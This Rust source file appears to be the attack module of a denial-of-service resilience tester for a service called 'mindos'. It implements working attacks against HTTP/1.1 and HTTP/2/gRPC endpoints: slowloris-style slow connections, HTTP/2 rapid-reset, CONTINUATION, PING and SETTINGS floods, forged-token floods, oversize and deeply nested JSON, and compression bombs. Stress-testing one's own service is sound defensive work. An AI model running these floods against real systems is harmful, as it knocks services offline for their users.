//! The attacks themselves. Each runs in a process of its own, until its time is up, from addresses of its own.
//!
//! Invariant: its time begins when all that it sends was made, and what has a list of requests sends each of them.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use anyhow::{Result, bail};
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout_at};

use super::raw::{
    self, Answers, CONTINUATION, DATA, END_STREAM, Frames, GOAWAY, HEADERS, INITIAL_WINDOW, PING, PRIORITY, RESET,
    SETTINGS, WINDOW, bomb, call, connect, source,
};
use super::tally::{Tally, add};

/// How large an attack is.
#[derive(Clone, Copy, Debug)]
pub struct Scale {
    /// Connections of the attacks that hold many.
    pub connections: usize,
    /// Requests after which those are over that count them.
    pub requests: u64,
    /// Addresses that they come from.
    pub addresses: usize,
    pub time: Duration,
}

/// Whom an attack goes against.
#[derive(Clone, Debug)]
pub struct Victim {
    pub api: SocketAddr,
    pub agents: SocketAddr,
    /// A good token of another principal, where one is needed to get further.
    pub token: Option<String>,
}

const PUBLISH: &str = "/mindos.event.v1.EventService/Publish";
const CONNECT: &str = "/mindos.agent.v1.AgentService/Connect";
const TAIL: &str = "/mindos.ledger.v1.LedgerService/Tail";

/// One attack under way.
#[derive(Clone)]
struct Under {
    victim: Arc<Victim>,
    scale: Scale,
    until: Instant,
    /// Requests that are enough.
    enough: Option<u64>,
    /// Requests that are sent whole, one on each connection, again and again.
    posts: Arc<[Vec<u8>]>,
    tally: Arc<Tally>,
}

/// How long one of a list waits for its answer at least.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(10);
/// How long all of a list may take that was not sent when the time was up.
const LIST_TIMEOUT: Duration = Duration::from_secs(60);

/// Runs the attack `name` to its end, and calls `begun` when its time begins.
///
/// # Errors
/// When there is none of that name.
pub(super) async fn run(name: &str, victim: Victim, scale: Scale, begun: impl FnOnce()) -> Result<Value> {
    let tally = Arc::new(Tally::default());
    let posts = posts(name, victim.token.as_deref());
    begun();
    let until = Instant::now() + scale.time;
    let counted = super::ATTACKS.iter().any(|attack| attack.counted && attack.name == name);
    let enough = counted.then_some(scale.requests);
    let under = Under { victim: Arc::new(victim), scale, until, enough, posts, tally: Arc::clone(&tally) };
    let few = (scale.connections / 100).clamp(2, 32);
    let some = (scale.connections / 5).max(20);
    match name {
        "half_open" => under.swarm(scale.connections, |under, number| under.holds(number, Vec::new(), None)).await,
        "idle_after_a_request" => {
            let first = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n".to_vec();
            under.swarm(scale.connections, move |under, number| under.holds(number, first.clone(), None)).await;
        }
        "idle_http2" => {
            let first = Frames::preface(&[]).0;
            under.swarm(scale.connections, move |under, number| under.holds(number, first.clone(), None)).await;
        }
        "slow_headers_http1" => {
            let first = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ".to_vec();
            under.swarm(some, move |under, number| under.holds(number, first.clone(), Some(b"a".to_vec()))).await;
        }
        "slow_headers_http2" => {
            let mut first = Frames::preface(&[]);
            first.frame(HEADERS, 0, 1, &raw::fields_as_block(&[(":method", "POST")]));
            let mut drop = Frames::default();
            drop.frame(CONTINUATION, 0, 1, &raw::fields_as_block(&[("a", "b")]));
            under.swarm(some, move |under, number| under.holds(number, first.0.clone(), Some(drop.0.clone()))).await;
        }
        "slow_bodies_http1" => {
            let first = b"POST /events HTTP/1.1\r\nHost: x\r\nContent-Type: application/cloudevents+json\r\n\
                          Content-Length: 1000000\r\n\r\n{"
                .to_vec();
            under.swarm(some, move |under, number| under.holds(number, first.clone(), Some(b" ".to_vec()))).await;
        }
        "slow_bodies_http2" => {
            // As many calls as a connection may have, each with a message of 4 MiB announced and most of it never sent.
            let mut first = Frames::preface(&[]);
            for stream in 0..200 {
                first.request(2 * stream + 1, &call(PUBLISH, &[]), false);
                first.frame(DATA, 0, 2 * stream + 1, &[0, 0, 0x40, 0, 0]);
            }
            let mut drop = Frames::default();
            (0..200).for_each(|stream| drop_on(&mut drop, 2 * stream + 1));
            under
                .swarm(some / 4, move |under, number| under.holds(number, first.0.clone(), Some(drop.0.clone())))
                .await;
        }
        "slow_readers_http1" => {
            let first = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n".repeat(200);
            under.swarm(some, move |under, number| under.deaf(number, first.clone())).await;
        }
        "slow_readers_http2" => {
            let mut first = Frames::preface(&[(INITIAL_WINDOW, 0)]);
            for stream in 0..500 {
                let path = if stream % 2 == 0 { "/metrics" } else { TAIL };
                let fields = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "x")];
                match stream % 2 {
                    0 => {
                        first.request(2 * stream + 1, &fields, true);
                    }
                    _ => {
                        first.request(2 * stream + 1, &call(TAIL, &[]), false);
                        first.frame(DATA, END_STREAM, 2 * stream + 1, &[0, 0, 0, 0, 0]);
                    }
                }
            }
            under.swarm(some / 4, move |under, number| under.deaf(number, first.0.clone())).await;
        }
        "rapid_reset" => under.swarm(few, |under, number| under.floods(number, Flood::Reset)).await,
        "made_reset" => under.swarm(few, |under, number| under.floods(number, Flood::MadeReset)).await,
        "continuation_flood" => under.swarm(few, |under, number| under.floods(number, Flood::Continuation)).await,
        "headers_flood" => under.swarm(few, |under, number| under.floods(number, Flood::Headers)).await,
        "ping_flood" => under.swarm(few, |under, number| under.floods(number, Flood::Ping)).await,
        "settings_flood" => under.swarm(few, |under, number| under.floods(number, Flood::Settings)).await,
        "small_frames" => under.swarm(few, |under, number| under.floods(number, Flood::Small)).await,
        "connection_churn" => under.swarm(few * 4, |under, number| under.churns(number)).await,
        "garbage" => {
            let noise: Vec<u8> = (0..4096u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
            under.swarm(few * 4, move |under, number| under.holds(number, noise.clone(), None)).await;
        }
        "bad_tokens" => under.swarm(few, |under, number| under.knocks(number, Knock::Token)).await,
        "bad_tokens_grpc" => under.swarm(few, |under, number| under.calls(number)).await,
        "one_at_its_limit" => under.swarm(few, |under, number| under.knocks(number, Knock::Publish)).await,
        "oversize_bodies" | "nested_json" | "compression_bombs" | "slow_expressions" => {
            under.swarm(few, move |under, number| under.posts(number, few)).await;
        }
        "agent_flood" => under.swarm(few, |under, number| under.agents(number)).await,
        _ => bail!("there is no attack `{name}`"),
    }
    Ok(tally.report())
}

fn drop_on(into: &mut Frames, stream: u32) {
    into.frame(DATA, 0, stream, &[0; 16]);
}

/// What is sent as fast as it is taken.
#[derive(Clone, Copy, Debug)]
enum Flood {
    Reset,
    /// The server is made to reset: each stream breaks a rule.
    MadeReset,
    Continuation,
    Headers,
    Ping,
    Settings,
    Small,
}

#[derive(Clone, Copy, Debug)]
enum Knock {
    Token,
    Publish,
}

impl Under {
    fn is_over(&self) -> bool {
        let sent = || self.tally.sent.load(Ordering::Relaxed);
        let listed = u64::try_from(self.posts.len()).unwrap_or(u64::MAX);
        let now = Instant::now();
        now >= self.until && (sent() >= listed || now >= self.until + LIST_TIMEOUT)
            || self.enough.is_some_and(|enough| sent() >= enough)
    }

    /// As many workers at once, each begun again when it ends, until the time is up.
    async fn swarm<F: Future<Output = ()> + Send + 'static>(
        &self,
        workers: usize,
        work: impl Fn(Under, usize) -> F + Clone + Send + 'static,
    ) {
        let mut tasks = tokio::task::JoinSet::new();
        for number in 0..workers {
            let (under, work) = (self.clone(), work.clone());
            tasks.spawn(async move {
                while !under.is_over() {
                    work(under.clone(), number).await;
                    // Whoever was cut off comes again.
                    sleep(Duration::from_millis(100)).await;
                }
            });
            if number % 100 == 99 {
                sleep(Duration::from_millis(5)).await;
            }
        }
        while tasks.join_next().await.is_some() {}
    }

    async fn open(&self, number: usize, to: SocketAddr) -> Option<TcpStream> {
        match tokio::time::timeout(Duration::from_secs(3), connect(source(number, self.scale.addresses), to)).await {
            Ok(Ok(stream)) => Some(stream),
            Ok(Err(_)) | Err(_) => {
                add(&self.tally.refused, 1);
                None
            }
        }
    }

    /// Says `first`, reads all that comes, and adds `drop` once a second.
    async fn holds(self, number: usize, first: Vec<u8>, drop: Option<Vec<u8>>) {
        let Some(mut stream) = self.open(number, self.victim.api).await else { return };
        self.tally.hold();
        let mut buffer = vec![0; 4096];
        if stream.write_all(&first).await.is_err() {
            return self.tally.lose();
        }
        add(&self.tally.sent, 1);
        let mut next = Instant::now() + Duration::from_secs(1);
        loop {
            match timeout_at(next.min(self.until), stream.read(&mut buffer)).await {
                Ok(Ok(0) | Err(_)) => return self.tally.lose(),
                Ok(Ok(_)) => continue,
                Err(_) if self.is_over() => return,
                Err(_) => {}
            }
            next = Instant::now() + Duration::from_secs(1);
            if let Some(drop) = &drop {
                if stream.write_all(drop).await.is_err() {
                    return self.tally.lose();
                }
                add(&self.tally.sent, 1);
            }
        }
    }

    /// Asks for much and reads nothing.
    async fn deaf(self, number: usize, first: Vec<u8>) {
        let Some(mut stream) = self.open(number, self.victim.api).await else { return };
        self.tally.hold();
        if !matches!(timeout_at(self.until, stream.write_all(&first)).await, Ok(Ok(()))) {
            return self.tally.lose();
        }
        add(&self.tally.sent, 1);
        // A connection that was reset says so to whoever writes.
        while !self.is_over() {
            sleep(Duration::from_millis(500)).await;
            if matches!(stream.try_write(b"\0"), Err(error) if error.kind() != std::io::ErrorKind::WouldBlock) {
                return self.tally.lose();
            }
        }
    }

    /// Opens and closes, at once.
    async fn churns(self, number: usize) {
        while !self.is_over() {
            match self.open(number, self.victim.api).await {
                Some(stream) => {
                    add(&self.tally.opened, 1);
                    let _ = stream.set_zero_linger();
                }
                None => return,
            }
        }
    }

    async fn floods(self, number: usize, flood: Flood) {
        let Some(stream) = self.open(number, self.victim.api).await else { return };
        self.tally.hold();
        let (mut reader, mut writer) = stream.into_split();
        let tally = Arc::clone(&self.tally);
        let reading = tokio::spawn(async move {
            let (mut buffer, mut answers) = (vec![0; 64 << 10], Answers::default());
            while let Ok(length @ 1..) = reader.read(&mut buffer).await {
                answers.feed(&buffer[..length], |kind, _| match kind {
                    HEADERS => tally.answer("headers", 1),
                    RESET => tally.answer("reset", 1),
                    GOAWAY => tally.answer("goaway", 1),
                    _ => {}
                });
            }
        });
        let mut begin = Frames::preface(&[]);
        if matches!(flood, Flood::Continuation) {
            begin.frame(HEADERS, 0, 1, &raw::fields_as_block(&[(":method", "GET")]));
        }
        let mut stream = 1;
        let mut bytes = begin.0;
        while !self.is_over() && matches!(timeout_at(self.until, writer.write_all(&bytes)).await, Ok(Ok(()))) {
            let mut frames = Frames::default();
            for _ in 0..100 {
                flood_frame(flood, stream, &mut frames);
                stream += 2;
            }
            add(&self.tally.sent, 100);
            bytes = frames.0;
        }
        if !self.is_over() {
            self.tally.lose();
        }
        reading.abort();
    }

    /// Requests with tokens that nobody gave out, or events without end, one after the other on one connection.
    async fn knocks(self, number: usize, knock: Knock) {
        let Some(mut stream) = self.open(number, self.victim.api).await else { return };
        self.tally.hold();
        let mut buffer = vec![0; 64 << 10];
        let mut serial = u64::from(std::process::id()) << 32;
        let mut rest = Vec::new();
        while !self.is_over() {
            let mut text = Vec::new();
            for _ in 0..50 {
                serial += 1;
                text.extend_from_slice(&self.knock(knock, number, serial));
            }
            if !matches!(timeout_at(self.until, stream.write_all(&text)).await, Ok(Ok(()))) {
                return self.tally.lose();
            }
            add(&self.tally.sent, 50);
            let mut answered = 0;
            while answered < 50 {
                let length = match timeout_at(self.until, stream.read(&mut buffer)).await {
                    Ok(Ok(length @ 1..)) => length,
                    Ok(_) => return self.tally.lose(),
                    Err(_) => return,
                };
                rest.extend_from_slice(&buffer[..length]);
                answered += self.codes(&mut rest);
            }
        }
    }

    fn knock(&self, knock: Knock, number: usize, serial: u64) -> Vec<u8> {
        match knock {
            Knock::Token => {
                let token = format!("mindos_api_{serial:043}");
                format!("GET /metrics HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n\r\n").into_bytes()
            }
            Knock::Publish => {
                let bearer = self.victim.token.as_deref().unwrap_or("none");
                format!(
                    "POST /events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {bearer}\r\nce-specversion: 1.0\r\nce-id: {number}-{serial}\r\n\
                     ce-source: /attack/{number}\r\nce-type: com.example.attack\r\nContent-Type: text/plain\r\nContent-Length: 1\r\n\r\nx"
                )
                .into_bytes()
            }
        }
    }

    /// Counts the status lines in `text` and forgets them.
    fn codes(&self, text: &mut Vec<u8>) -> usize {
        const LINE: &[u8] = b"HTTP/1.1 ";
        let (mut at, mut found) = (0, 0);
        while let Some(place) = text.get(at..).and_then(|rest| rest.windows(LINE.len()).position(|part| part == LINE)) {
            let code = at + place + LINE.len();
            let Some(digits) = text.get(code..code + 3) else { break };
            self.tally.answer(&String::from_utf8_lossy(digits), 1);
            at = code + 3;
            found += 1;
        }
        // What may be half a line stays.
        let keep = at.max(text.len().saturating_sub(LINE.len() + 3));
        text.drain(..keep);
        found
    }

    /// Calls by gRPC with tokens that nobody gave out, a hundred streams at a time.
    async fn calls(self, number: usize) {
        let Some(mut stream) = self.open(number, self.victim.api).await else { return };
        self.tally.hold();
        let (mut buffer, mut answers) = (vec![0; 64 << 10], Answers::default());
        let mut bytes = Frames::preface(&[]).0;
        let (mut next, mut serial) = (1, u64::from(std::process::id()) << 32);
        while !self.is_over() {
            let mut frames = Frames::default();
            for _ in 0..100 {
                serial += 1;
                let bearer = format!("Bearer mindos_api_{serial:043}");
                frames.request(next, &call(PUBLISH, &[("authorization", &bearer)]), false);
                frames.frame(DATA, END_STREAM, next, &[0, 0, 0, 0, 0]);
                next += 2;
            }
            // What has been read is given back.
            frames.frame(WINDOW, 0, 0, &(1u32 << 16).to_be_bytes());
            bytes.extend_from_slice(&frames.0);
            if !matches!(timeout_at(self.until, stream.write_all(&bytes)).await, Ok(Ok(()))) {
                return self.tally.lose();
            }
            add(&self.tally.sent, 100);
            bytes.clear();
            let mut ended = 0;
            while ended < 100 {
                let length = match timeout_at(self.until, stream.read(&mut buffer)).await {
                    Ok(Ok(length @ 1..)) => length,
                    Ok(_) => return self.tally.lose(),
                    Err(_) => return,
                };
                answers.feed(&buffer[..length], |kind, flags| match kind {
                    HEADERS if flags & END_STREAM != 0 => {
                        ended += 1;
                        self.tally.answer("ended", 1);
                    }
                    RESET => {
                        ended += 1;
                        self.tally.answer("reset", 1);
                    }
                    GOAWAY => self.tally.answer("goaway", 1),
                    _ => {}
                });
            }
        }
    }

    /// Sends each request on a connection of its own and reads its answer; each of `workers` begins at another.
    async fn posts(self, number: usize, workers: usize) {
        let first = number * self.posts.len() / workers;
        for place in (first..self.posts.len()).chain(0..first) {
            if self.is_over() {
                return;
            }
            let Some(stream) = self.open(number, self.victim.api).await else { return };
            self.tally.hold();
            let (mut reader, mut writer) = stream.into_split();
            let until = self.until.max(Instant::now() + ANSWER_TIMEOUT);
            let posts = Arc::clone(&self.posts);
            // The answer may come before all was sent.
            let sending = tokio::spawn(async move {
                let _ = timeout_at(until, writer.write_all(&posts[place])).await;
                writer
            });
            add(&self.tally.sent, 1);
            let (mut buffer, mut text) = (vec![0; 4096], Vec::new());
            loop {
                match timeout_at(until, reader.read(&mut buffer)).await {
                    Ok(Ok(length @ 1..)) => {
                        text.extend_from_slice(&buffer[..length]);
                        if self.codes(&mut text) > 0 {
                            break;
                        }
                    }
                    Ok(_) => {
                        self.tally.answer("closed", 1);
                        break;
                    }
                    Err(_) => {
                        self.tally.answer("none", 1);
                        break;
                    }
                }
            }
            sending.abort();
            self.tally.lose();
        }
    }

    /// Streams of agents that talk without end: a valid beginning, then as many messages as are taken.
    async fn agents(self, number: usize) {
        let Some(stream) = self.open(number, self.victim.agents).await else { return };
        self.tally.hold();
        let (mut reader, mut writer) = stream.into_split();
        let tally = Arc::clone(&self.tally);
        let reading = tokio::spawn(async move {
            let (mut buffer, mut answers) = (vec![0; 64 << 10], Answers::default());
            while let Ok(length @ 1..) = reader.read(&mut buffer).await {
                answers.feed(&buffer[..length], |kind, flags| match kind {
                    HEADERS if flags & END_STREAM != 0 => tally.answer("ended", 1),
                    RESET => tally.answer("reset", 1),
                    GOAWAY => tally.answer("goaway", 1),
                    _ => {}
                });
            }
        });
        let mut frames = Frames::preface(&[(INITIAL_WINDOW, 1 << 30)]);
        frames.request(1, &call(CONNECT, &[]), false);
        frames.frame(DATA, 0, 1, &super::client::hello_frame(number));
        let (mut bytes, mut next) = (frames.0, 2u64);
        while !self.is_over() && matches!(timeout_at(self.until, writer.write_all(&bytes)).await, Ok(Ok(()))) {
            let mut frames = Frames::default();
            for _ in 0..50 {
                frames.frame(DATA, 0, 1, &super::client::heartbeat_frame(next));
                next += 1;
            }
            add(&self.tally.sent, 50);
            bytes = frames.0;
        }
        if !self.is_over() {
            self.tally.lose();
        }
        reading.abort();
    }
}

fn flood_frame(flood: Flood, stream: u32, into: &mut Frames) {
    let get = [(":method", "GET"), (":scheme", "http"), (":path", "/healthz"), (":authority", "x")];
    match flood {
        Flood::Reset => {
            into.request(stream, &call(PUBLISH, &[]), false);
            into.frame(RESET, 0, stream, &8u32.to_be_bytes());
        }
        Flood::MadeReset => {
            into.request(stream, &get, true);
            // A window cannot grow by nothing: the stream has to be reset.
            into.frame(WINDOW, 0, stream, &0u32.to_be_bytes());
        }
        Flood::Continuation => {
            into.frame(CONTINUATION, 0, 1, &raw::fields_as_block(&[("x-padding", &"p".repeat(1000))]));
        }
        Flood::Headers => {
            let large = "h".repeat(12 << 10);
            let fields = [&get[..], &[("x-large", &*large)]].concat();
            into.request(stream, &fields, true);
        }
        Flood::Ping => {
            into.frame(PING, 0, 0, &[7; 8]);
        }
        Flood::Settings => {
            let setting = [&INITIAL_WINDOW.to_be_bytes()[..], &65_535u32.to_be_bytes()].concat();
            into.frame(SETTINGS, 0, 0, &setting);
        }
        Flood::Small => {
            if stream == 1 {
                into.request(1, &call(PUBLISH, &[]), false);
            }
            into.frame(DATA, 0, 1, &[]);
            into.frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 0]);
            into.frame(WINDOW, 0, 0, &1u32.to_be_bytes());
        }
    }
}

fn post(path: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut text =
        format!("POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {}\r\n", body.len());
    for (name, value) in headers {
        text.push_str(&format!("{name}: {value}\r\n"));
    }
    text.push_str("\r\n");
    [text.as_bytes(), body].concat()
}

const EVENT: (&str, &str) = ("Content-Type", "application/cloudevents+json");
const BATCH: (&str, &str) = ("Content-Type", "application/cloudevents-batch+json");
const JSON: (&str, &str) = ("Content-Type", "application/json");
const GITHUB: [(&str, &str); 3] = [JSON, ("X-GitHub-Event", "push"), ("X-GitHub-Delivery", "1")];
/// Every path that reads JSON.
const DOORS: [&str; 8] = [
    "/events",
    "/webhooks/github",
    "/webhooks/gitlab",
    "/webhooks/alertmanager",
    "/webhooks/generic/open",
    "/webhook/github",
    "/api/v1/events",
    "/upgrade/finalize",
];

/// What the attack `name` sends whole, with a good token, so that it gets as far as anybody does.
fn posts(name: &str, token: Option<&str>) -> Arc<[Vec<u8>]> {
    let mut posts = match name {
        "oversize_bodies" => oversize(),
        "nested_json" => nested(),
        "compression_bombs" => bombs(),
        "slow_expressions" => slow_to_judge(),
        _ => Vec::new(),
    };
    let bearer = token.map(|token| format!("Authorization: Bearer {token}\r\n")).unwrap_or_default();
    for request in posts.iter_mut().filter(|request| request.starts_with(b"POST ")) {
        let line = request.windows(2).position(|two| two == b"\r\n").map_or(0, |at| at + 2);
        request.splice(line..line, bearer.bytes());
    }
    posts.into()
}

fn oversize() -> Vec<Vec<u8>> {
    let large = vec![b' '; 26 << 20];
    let batch = format!("[{}]", vec!["{}"; 200_000].join(",")).into_bytes();
    let text = format!("{{\"specversion\":\"1.0\",\"id\":\"{}\"}}", "i".repeat(3 << 20)).into_bytes();
    let mut chunked = b"POST /events HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Type: application/cloudevents+json\r\n\r\n".to_vec();
    (0..400).for_each(|_| chunked.extend_from_slice(&[b"10000\r\n", &[b' '; 0x10000][..], b"\r\n"].concat()));
    let mut requests: Vec<_> = DOORS.iter().map(|path| post(path, &GITHUB, &large)).collect();
    requests.extend([post("/events", &[BATCH], &batch), post("/events", &[EVENT], &text), chunked]);
    requests
}

fn nested() -> Vec<Vec<u8>> {
    let mut requests = Vec::new();
    for depth in [129, 100_000, 1_500_000] {
        let lists = [vec![b'['; depth], vec![b']'; depth]].concat();
        let maps = ["{\"a\":".repeat(depth), "1".to_owned(), "}".repeat(depth)].concat().into_bytes();
        for nested in [&lists, &maps] {
            let data = |head: &str| [head.as_bytes(), nested, b"}"].concat();
            let event = data("{\"specversion\":\"1.0\",\"id\":\"1\",\"source\":\"s\",\"type\":\"t\",\"data\":");
            requests.push(post("/events", &[EVENT], &event));
            requests.push(post("/events", &[EVENT], nested));
            requests.push(post("/events", &[BATCH], &[b"[", &event[..], b"]"].concat()));
            requests.extend(DOORS.iter().map(|path| post(path, &GITHUB, nested)));
            requests.push(post("/webhooks/github", &GITHUB, &data("{\"repository\":")));
            requests.push(post("/webhooks/alertmanager", &[JSON], &data("{\"alerts\":")));
        }
    }
    requests
}

fn bombs() -> Vec<Vec<u8>> {
    let bomb = bomb(1 << 30);
    let mut requests = Vec::new();
    for encoding in ["gzip", "deflate", "br", "zstd", "gzip, gzip"] {
        for path in DOORS {
            requests.push(post(path, &[&GITHUB[..], &[("Content-Encoding", encoding)]].concat(), &bomb));
        }
        requests.push(post("/events", &[EVENT, ("Content-Encoding", encoding)], &bomb));
    }
    for encoding in ["gzip", "deflate", "zstd"] {
        let mut frames = Frames::preface(&[]);
        frames.request(1, &call(PUBLISH, &[("grpc-encoding", encoding)]), false);
        let length = u32::try_from(bomb.len()).unwrap_or(0).to_be_bytes();
        let message = [&[1][..], &length, &bomb].concat();
        for part in message.chunks(16 << 10).take(3) {
            frames.frame(DATA, 0, 1, part);
        }
        requests.push(frames.0);
    }
    requests
}

/// Events of the kind that slow conditions are for: much to go through.
fn slow_to_judge() -> Vec<Vec<u8>> {
    let text = "a".repeat(30_000);
    let items = vec!["1"; 20_000].join(",");
    let serial = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |since| since.as_nanos());
    let event = |place: usize| {
        let body = format!(
            "{{\"specversion\":\"1.0\",\"id\":\"{serial}-{place}\",\"source\":\"/slow\",\"type\":\"com.example.slow\",\"kind\":\"slow\",\
             \"data\":{{\"text\":\"{text}\",\"items\":[{items}]}}}}"
        );
        post("/events", &[EVENT], body.as_bytes())
    };
    (0..20).map(event).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requests_are_as_large_as_they_say() {
        assert!(oversize().iter().any(|request| request.len() > 25 << 20));
        assert!(nested().len() > 60 && bombs().len() > 40);
        let whole = String::from_utf8(post("/x", &[JSON], b"{}")).expect("text");
        assert!(whole.contains("Content-Length: 2\r\n") && whole.ends_with("\r\n\r\n{}"), "{whole}");
        assert_eq!(raw::END_HEADERS | END_STREAM, 5);
    }
}
